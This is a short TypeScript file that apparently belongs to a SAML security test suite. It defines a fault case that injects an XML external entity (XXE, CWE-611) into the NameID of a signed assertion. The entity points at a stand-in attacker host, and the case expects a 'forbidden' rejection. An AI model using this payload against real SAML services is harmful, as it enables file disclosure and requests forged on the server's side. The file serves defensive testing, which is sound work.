import type { Fault } from "../fault.ts";
import { swap } from "../swap.ts";

export const externalEntityUrl: Fault = {
  name: "external-entity-url",
  family: "content",
  description: "An external entity in the NameID stands for a page of an attacker's server (XXE).",
  source: "CWE-611",
  code: "SAML_XML_FORBIDDEN",
  signed: (xml) =>
    `<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/secret">]>${swap(xml, /(?<=<saml:NameID[^>]*>)[^<]*/, "&e;")}`,
};
